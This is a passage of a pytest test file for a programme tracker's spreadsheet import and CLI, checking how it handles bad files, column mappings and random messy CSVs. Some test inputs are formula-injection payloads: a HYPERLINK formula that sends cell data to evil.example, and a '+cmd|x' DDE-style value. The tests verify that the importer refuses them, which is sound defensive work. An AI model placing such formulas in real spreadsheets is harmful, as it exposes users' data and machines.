    assert (again.created, again.updated, again.unchanged) == (0, 1, 2)
    with db.read_session(world.engine) as session:
        readings = session.exec(
            select(MetricReading.reading_on, MetricReading.value, MetricReading.note).order_by(
                col(MetricReading.reading_on)
            )
        ).all()
        assert session.exec(select(func.count()).select_from(Metric)).one() == 1
    assert [tuple(r) for r in readings] == [
        (dt.date(2026, 1, 31), 12.5, "first cohort"),
        (dt.date(2026, 2, 28), 1234.5, ""),
        (dt.date(2026, 3, 31), 45.0, ""),
    ]


def test_progress_is_reported_up_to_the_total(world: World) -> None:
    rows = [["Title", "Stage", "Due"]] + [[f"Task {n}", "1", "01/01/2026"] for n in range(250)]
    calls: list[tuple[int, int]] = []
    with db.write_session(world.engine, actor=world.viewer.email) as session:
        table = _table(_csv(rows).encode(), "milestones")
        imports.commit_import(
            session=session,
            viewer=world.viewer,
            kind="milestones",
            table=table,
            mapping=reading.guess_mapping("milestones", table.headers),
            programme_id=world.programme_id,
            progress=lambda done, total: calls.append((done, total)),
        )
    assert calls == [(0, 250), (100, 250), (200, 250), (250, 250)]


# --- Bad files --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "filename", "reason"),
    [
        (b"", "empty.csv", "empty.csv is empty"),
        (b"  \r\n\r\n", "blank.csv", "blank.csv is empty"),
        (b"\xef\xbb\xbf", "bom.csv", "bom.csv is empty"),
        (bytes(range(256)) * 4, "data.csv", "does not look like a spreadsheet"),
        (bytes(range(1, 256)) * 4, "data.csv", "does not look like a spreadsheet"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "photo.csv", "photo.csv is an image"),
        (b"%PDF-1.7\n...", "report.csv", "is a PDF, not a spreadsheet"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 50, "old.xls", "old Excel format"),
        (b"PK\x03\x04 not really a zip", "book.xlsx", "does not look like a spreadsheet"),
        (b"Title,Stage\r\n", "fake.xlsx", "not a valid XLSX workbook"),
        (b"1,2,3\r\n4,5,6\r\n", "numbers.csv", "has no header row"),
    ],
)
def test_files_that_are_not_spreadsheets_are_refused_clearly(
    data: bytes, filename: str, reason: str
) -> None:
    with pytest.raises(DomainError, match=reason) as refused:
        read_table(data, filename)
    assert refused.value.field == "file"


def test_a_file_over_10_mb_is_refused_before_it_is_parsed() -> None:
    data = b"Title,Stage,Due\r\n" + b"x" * MAX_IMPORT_BYTES
    with pytest.raises(DomainError, match=r"big.csv is 10.0 MB; the limit is 10 MB"):
        read_table(data, "big.csv")


def test_a_file_with_the_wrong_columns_is_refused_and_nothing_is_written(world: World) -> None:
    table = _table(b"Colour;Shape\r\nblue;round\r\n", "milestones")
    before = _counts(world.engine)
    preview = _preview(world, "milestones", table)
    assert [e.describe() for e in preview.errors] == [
        "file: no column is chosen for Title, which every row needs",
        "file: no column is chosen for Stage, which every row needs",
        "file: no column is chosen for Due date, which every row needs",
    ]
    assert [plan.action for plan in preview.rows] == [RowAction.invalid]
    with pytest.raises(DomainError, match="3 problems to fix first, so nothing was imported"):
        _commit(world, "milestones", table)
    assert _counts(world.engine) == before


def test_a_hyperlink_formula_is_refused_and_no_row_of_the_file_is_written(world: World) -> None:
    text = _csv(
        [
            ["Title", "Stage", "Due", "Owner"],
            ["A fine milestone", "1", "01/02/2026", "Ann"],
            ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "1", "01/02/2026", "Bob"],
            ["Another fine one", "2", "01/03/2026", "@SUM(1)"],
        ]
    )
    table = _table(text.encode(), "milestones")
    before = _counts(world.engine)
    preview = _preview(world, "milestones", table)
    assert [e.describe() for e in preview.errors] == [
        "row 3, column Title: looks like a spreadsheet formula; remove it",
        "row 4, column Owner: looks like a spreadsheet formula; remove it",
    ]
    assert [plan.action for plan in preview.rows] == [
        RowAction.create,
        RowAction.invalid,
        RowAction.invalid,
    ]
    with pytest.raises(DomainError, match="looks like a spreadsheet formula"):
        _commit(world, "milestones", table)
    assert _counts(world.engine) == before


def test_a_mapping_naming_a_missing_or_shared_column_is_an_error(world: World) -> None:
    table = _table(b"Title,Stage,Due\r\nThing one,1,01/01/2026\r\n", "milestones")
    preview = _preview(world, "milestones", table, owner="Gone", due_date="Title")
    assert [e.reason for e in preview.errors] == [
        "the column 'Gone' chosen for Owner is not in the file",
        "the column 'Title' is chosen for both Title and Due date",
    ]


def test_a_model_rule_broken_by_a_row_names_the_column(world: World) -> None:
    rows = [
        ["Title", "Stage", "Due", "Status", "Completed", "Weight"],
        ["No", "1", "01/01/2026", "", "", "9"],
        ["Not done yet", "1", "01/01/2026", "in progress", "02/01/2026", "1"],
    ]
    preview = _preview(world, "milestones", _table(_csv(rows).encode(), "milestones"))
    assert [e.describe() for e in preview.errors] == [
        "row 2, column Title: must be at least 3 characters",
        "row 2, column Weight: must be 5 or less",
        "row 3, column Completed: only a done milestone has a completed date",
    ]


# --- Saved mappings ---------------------------------------------------------------------------


def test_a_mapping_is_saved_per_organisation_and_kind_and_replaced_on_save(world: World) -> None:
    mapping = {"title": "Task", "stage": "Phase", "due_date": "When", "owner": None}
    with db.write_session(world.engine, actor=world.viewer.email) as session:
        imports.save_mapping(
            session=session,
            viewer=world.viewer,
            organisation_id=world.organisation_id,
            kind="milestones",
            mapping=mapping,
        )
    with db.write_session(world.engine, actor=world.viewer.email) as session:
        saved = imports.save_mapping(
            session=session,
            viewer=world.viewer,
            organisation_id=world.organisation_id,
            kind=ImportKind.milestones,
            mapping=mapping | {"owner": "Lead"},
        )
        assert saved.version == 2
    with db.read_session(world.engine) as session:
        loaded = imports.saved_mapping(
            session=session, organisation_id=world.organisation_id, kind="milestones"
        )
        none = imports.saved_mapping(
            session=session, organisation_id=world.organisation_id, kind="stakeholders"
        )
    assert loaded == mapping | {"owner": "Lead"}
    assert none is None
    assert _count(world.engine, ImportMapping) == 1
    assert (
        reading.mapping_from_json(reading.mapping_to_json("milestones", mapping), kind="milestones")
        == mapping
    )


def test_saving_a_mapping_for_another_organisation_is_refused(world: World) -> None:
    other = factories.organisation(world.engine)
    with pytest.raises(PermissionDeniedError), db.write_session(world.engine, actor="x") as session:
        imports.save_mapping(
            session=session,
            viewer=world.viewer,
            organisation_id=other,
            kind="milestones",
            mapping={},
        )


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("not json", "not valid JSON"),
        ("[1, 2]", "must hold an object"),
        ('{"kind": "readings", "mapping": {"value": "V"}}', "this mapping is for readings"),
        ('{"colour": "Blue"}', "'colour' is not a field of a milestones import"),
        ('{"title": 3}', "must be a header's text"),
    ],
)
def test_a_bad_mapping_file_is_refused(text: str, reason: str) -> None:
    with pytest.raises(DomainError, match=reason):
        reading.mapping_from_json(text, kind="milestones")


# --- Messy files at random --------------------------------------------------------------------

TITLES = [f"Milestone {letter}" for letter in "ABCDEFGHIJKLMNOPQRST"] + ["Café rota", "Łódź visit"]
JUNK = st.one_of(
    st.text(max_size=12),
    st.sampled_from(
        [
            '=HYPERLINK("x")',
            "@SUM(1)",
            "+cmd|x",
            "#N/A",
            "-",
            "13/13/2026",
            "03/31/2026",
            "tbc",
            "\n",
            '"',
            ";",
            "46000.5",
            "9999999",
            "\x00",
            "\ufeff",
            "Ä\u200b",
        ]
    ),
)


LATIN1_PRINTABLE = st.characters(codec="latin-1", exclude_categories=("Cc",))


@st.composite
def cell(draw: st.DrawFn, good: st.SearchStrategy[str], junk_rate: float) -> str:
    if junk_rate and draw(st.floats(0, 1)) < junk_rate:
        return draw(JUNK)
    return draw(good)


@st.composite
def day(draw: st.DrawFn) -> str:
    value = draw(st.dates(dt.date(2025, 1, 1), dt.date(2028, 12, 31)))
    style = draw(
        st.sampled_from(["%d/%m/%Y", "%d.%m.%Y", "%d-%m-%Y", "%Y-%m-%d", "%-d %B %Y", "serial"])
    )
    if style == "serial":
        return str((value - dt.date(1899, 12, 30)).days)
    return value.strftime(style)


@st.composite
def messy_milestone_file(draw: st.DrawFn) -> tuple[bytes, str]:
    junk_rate = draw(st.sampled_from([0.0, 0.0, 0.02, 0.3]))
    headers = [
        draw(st.sampled_from(["Title", "Milestone", "Task"])),
        draw(st.sampled_from(["Stage", "Phase"])),
        draw(st.sampled_from(["Due", "Due date", "Deadline", "Target date"])),
        draw(st.sampled_from(["Status", "Progress"])),
        draw(st.sampled_from(["Owner", "Lead", "Notes"])),
    ]
    body = [
        [
            draw(cell(st.sampled_from(TITLES), junk_rate)),
            draw(
                cell(
                    st.sampled_from(["1", "2", "Test", "equip", "Stage 5", "celebrate"]), junk_rate
                )
            ),
            draw(cell(day(), junk_rate)),
            draw(
                cell(
                    st.sampled_from(["", "Done", "In progress", "not started", "WIP", "blocked"]),
                    junk_rate,
                )
            ),
            draw(cell(st.text(LATIN1_PRINTABLE, max_size=20), junk_rate)),
        ]
        for _ in range(draw(st.integers(0, 8)))
    ]
    extras = draw(st.lists(st.sampled_from(["", "# note", "Notes only"]), max_size=3))
    for extra in extras:
        body.insert(draw(st.integers(0, len(body))), [extra])
    if draw(st.booleans()):
        body.insert(0, headers)
        headers = ["Milestone plan 2026"]
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    text = _csv([headers, *body], delimiter)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"]))
    return text.encode(encoding, errors="replace"), encoding


@pytest.fixture(scope="module")
def messy_world(
    migrated_sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[World]:
    """One database for every generated file: an import either writes all its rows or none,
    which each example checks, so they need no fresh one."""
    path = tmp_path_factory.mktemp("messy") / "tracker.db"
    shutil.copy(migrated_sqlite_template, path)
    engine = db.make_engine(f"sqlite:///{path}")
    yield _world(engine)
    engine.dispose()


@settings(
    max_examples=1000,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(file=messy_milestone_file())
def test_any_messy_csv_is_imported_whole_or_refused_whole(
    messy_world: World, file: tuple[bytes, str]
) -> None:
    data, _encoding = file
    world = messy_world
    before = _count(world.engine, Milestone)
    try:
        table = _table(data, "milestones", "messy.csv")
        preview = _preview(world, "milestones", table)
        last = max(
            [row.number for row in table.rows]
            + [s.last for s in table.skipped]
            + [table.header_row]
        )
        assert_every_row_accounted(table, preview, last_row=last)
        # The import's last-resort message never shows: each refusal has its own reason.
        assert "this row could not be read as a record" not in {p.reason for p in preview.errors}
        result = _commit(world, "milestones", table)
    except DomainError as refused:
        event(f"refused: {refused.field or 'rows'}")
        assert _count(world.engine, Milestone) == before
        return
    event("imported")
    assert not preview.errors
    assert _count(world.engine, Milestone) == before + result.created
    assert result.created + result.updated + result.unchanged + result.skipped == len(
        table.rows
    ) + len(preview.skipped_rows)


# --- tracker import ---------------------------------------------------------------------------

MANAGER = "maya.manager@demo.example"
LEADER = "lena.leader@demo.example"
DEMO_PROGRAMME = "NCC-ASC-ONLINE"


def _demo_milestones(url: str) -> int:
    engine = db.make_engine(url)
    try:
        with db.read_session(engine) as session:
            programme = session.exec(
                select(Programme).where(Programme.code == DEMO_PROGRAMME)
            ).one()
            return int(
                session.exec(
                    select(func.count())
                    .select_from(Milestone)
                    .where(Milestone.programme_id == programme.id)
                ).one()
            )
    finally:
        engine.dispose()


def _counts_at(url: str) -> dict[str, int]:
    engine = db.make_engine(url)
    try:
        return _counts(engine)
    finally:
        engine.dispose()


def _file(tmp_path: Path, text: str, name: str = "plan.csv") -> str:
    path = tmp_path / name
    path.write_bytes(text.encode("cp1252"))
    return str(path)


GOOD_FILE = (
    "Milestone;Phase;Deadline;Status\r\n"
    "CLI café briefing;2;30.09.2026;WIP\r\n"
    "CLI go-live;5;46300;\r\n"
)


def test_cli_import_prints_the_columns_and_writes_every_row(
    demo_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = _demo_milestones(demo_url)
    argv = [
        "import",
        "milestones",
        _file(tmp_path, GOOD_FILE),
        "--programme",
        DEMO_PROGRAMME.lower(),
        "--as",
        MANAGER,
    ]
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert (
        "plan.csv: 2 rows under the header on row 1 (CSV, Windows-1252, separated by semicolons)"
        in out
    )
    assert "Due date               <- Deadline" in out
    assert "Owner                  <- (not imported)" in out
    assert "Imported milestones: 2 created, 0 updated, 0 unchanged, 0 skipped." in out
    assert _demo_milestones(demo_url) == before + 2

    assert main(argv) == 0
    assert "0 created, 0 updated, 2 unchanged" in capsys.readouterr().out
    assert _demo_milestones(demo_url) == before + 2


def test_cli_dry_run_reports_and_writes_nothing(
    demo_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = _demo_milestones(demo_url)
    argv = [
        "import",
        "milestones",
        _file(tmp_path, GOOD_FILE),
        "--programme",
        DEMO_PROGRAMME,
        "--as",
        MANAGER,
        "--dry-run",
    ]
    assert main(argv) == 0
    assert (
        "Dry run: 2 rows: 2 to create, 0 to update, 0 unchanged, 0 skipped. Nothing was written."
        in capsys.readouterr().out
    )
    assert _demo_milestones(demo_url) == before


def test_cli_refuses_a_file_with_problems_listing_each_and_writes_nothing(
    demo_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = _demo_milestones(demo_url)
    bad = GOOD_FILE + 'Third;9;31/02/2026;\r\n=HYPERLINK("x");1;01/01/2026;\r\n'
    argv = [
        "import",
        "milestones",
        _file(tmp_path, bad),
        "--programme",
        DEMO_PROGRAMME,
        "--as",
        MANAGER,
    ]
    assert main(argv) == 1
    captured = capsys.readouterr()
    assert "  row 4, column Phase: stage numbers go from 1 to 6" in captured.out
    assert "  row 4, column Deadline: '31/02/2026' is not a real date" in captured.out
    assert "  row 5, column Milestone: looks like a spreadsheet formula; remove it" in captured.out
    assert "tracker import: refused: 3 errors to fix; nothing was imported." in captured.err
    assert "Traceback" not in captured.err
    assert _demo_milestones(demo_url) == before


def test_cli_uses_a_mapping_file(
    demo_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = "Thing;When;Bit;Who\r\nMapped by file;01/10/2026;equip;Ann\r\n"
    mapping = tmp_path / "mapping.json"
    mapping.write_text(
        reading.mapping_to_json(
            "milestones", {"title": "Thing", "due_date": "When", "stage": "Bit", "owner": None}
        )
    )
    argv = [
        "import",
        "milestones",
        _file(tmp_path, text),
        "--programme",
        DEMO_PROGRAMME,
        "--as",
        MANAGER,
        "--mapping",
        str(mapping),
    ]
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert f"Columns (from {mapping}):" in out
    assert "Owner                  <- (not imported)" in out
    assert "1 created" in out


@pytest.mark.parametrize(
    ("argv", "code", "message"),
    [
        (["milestones", "GOOD", "--as", MANAGER], 2, "needs --programme CODE"),
        (["widgets", "GOOD", "--as", MANAGER], 2, "invalid choice"),
        (["milestones", "GOOD", "--programme", DEMO_PROGRAMME], 2, "--as"),
        (["milestones", "GOOD", "--programme", "NOPE", "--as", MANAGER], 1, "no programme has"),
        (["milestones", "GOOD", "--programme", DEMO_PROGRAMME, "--as", LEADER], 1, "Only managers"),
        (
            ["milestones", "GOOD", "--programme", DEMO_PROGRAMME, "--as", "x@y.z"],
            1,
            "no active user",
        ),
        (
            ["milestones", "MISSING", "--programme", DEMO_PROGRAMME, "--as", MANAGER],
            1,
            "could not read",
        ),
        (["milestones", "EMPTY", "--programme", DEMO_PROGRAMME, "--as", MANAGER], 1, "is empty"),
        (
            ["milestones", "BINARY", "--programme", DEMO_PROGRAMME, "--as", MANAGER],
            1,
            "binary data",
        ),
        (
            ["milestones", "BIG", "--programme", DEMO_PROGRAMME, "--as", MANAGER],
            1,
            "the limit is 10 MB",
        ),
        (["milestones", "COLUMNS", "--programme", DEMO_PROGRAMME, "--as", MANAGER], 1, "refused"),
    ],
)
def test_cli_import_exit_codes_and_nothing_written_when_refused(
    demo_url: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    argv: list[str],
    code: int,
    message: str,
) -> None:
    before = _counts_at(demo_url)
    files = {
        "GOOD": GOOD_FILE.encode("cp1252"),
        "EMPTY": b"",
        "BINARY": bytes(range(256)) * 8,
        "COLUMNS": b"Colour,Shape\r\nblue,round\r\n",
    }
    paths = {}
    for name, data in files.items():
        paths[name] = tmp_path / f"{name.lower()}.csv"
        paths[name].write_bytes(data)
    paths["BIG"] = tmp_path / "big.csv"
    with paths["BIG"].open("wb") as big:
        big.truncate(MAX_IMPORT_BYTES + 1)
    paths["MISSING"] = tmp_path / "missing.csv"
    assert main(["import", *(str(paths[a]) if a in paths else a for a in argv)]) == code
    assert message in capsys.readouterr().err
    assert _counts_at(demo_url) == before


def test_cli_imports_a_portfolio_for_the_managers_organisation(
    demo_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = (
        "Programme code;Programme name;Council;SRO;Start;Finish;DCA\r\n"
        "NCC-NEW-ONE;A new county programme;NCC;Chief Exec;01/04/2026;31/03/2028;A/G\r\n"
    )
    argv = ["import", "programmes", _file(tmp_path, text), "--as", MANAGER]
    assert main(argv) == 0
    assert "1 created" in capsys.readouterr().out
    engine = db.make_engine(demo_url)
    with db.read_session(engine) as session:
        programme = session.exec(select(Programme).where(Programme.code == "NCC-NEW-ONE")).one()
        override = session.exec(
            select(ConfidenceOverride).where(ConfidenceOverride.programme_id == programme.id)
        ).one()
    engine.dispose()
    assert override.rating is DeliveryConfidence.amber_green


def test_one_cell_notes_and_a_stray_tab_do_not_outvote_the_commas() -> None:
    # Found by the messy-file property test: three one-cell notes and a tab inside one cell
    # made the tab the delimiter, and the whole file was refused for want of a Title column.
    data = b"Title,Stage,Due,Status,Owner\r\nNotes only\r\nNotes only\r\nNotes only\r\n"
    table = read_table(data + b"Milestone A,1,,\t,\r\n", "messy.csv")
    assert table.headers == ("Title", "Stage", "Due", "Status", "Owner")


def test_the_saved_column_choices_are_the_owners_when_the_viewer_acts_for_it(
    engine: Engine,
) -> None:
    # Both Manage → Import and `tracker import` read a file with these organisations' choices.
    alpha = factories.organisation(engine, name="Alpha Council", short_name="ALP")
    beta = factories.organisation(engine, name="Beta Council", short_name="BET")
    owned_by_beta = factories.programme(engine, beta)
    email = "two.councils@example.org"
    factories.user(engine, [beta, alpha], email=email)
    viewer = factories.viewer(engine, email)
    with db.read_session(engine) as session:
        for_programme = read.imports.mapping_organisation(
            session=session, viewer=viewer, programme_id=owned_by_beta
        )
        for_programmes = read.imports.mapping_organisation(
            session=session, viewer=viewer, programme_id=None
        )
    assert (for_programme, for_programmes) == (beta, alpha)  # Alpha is first by name
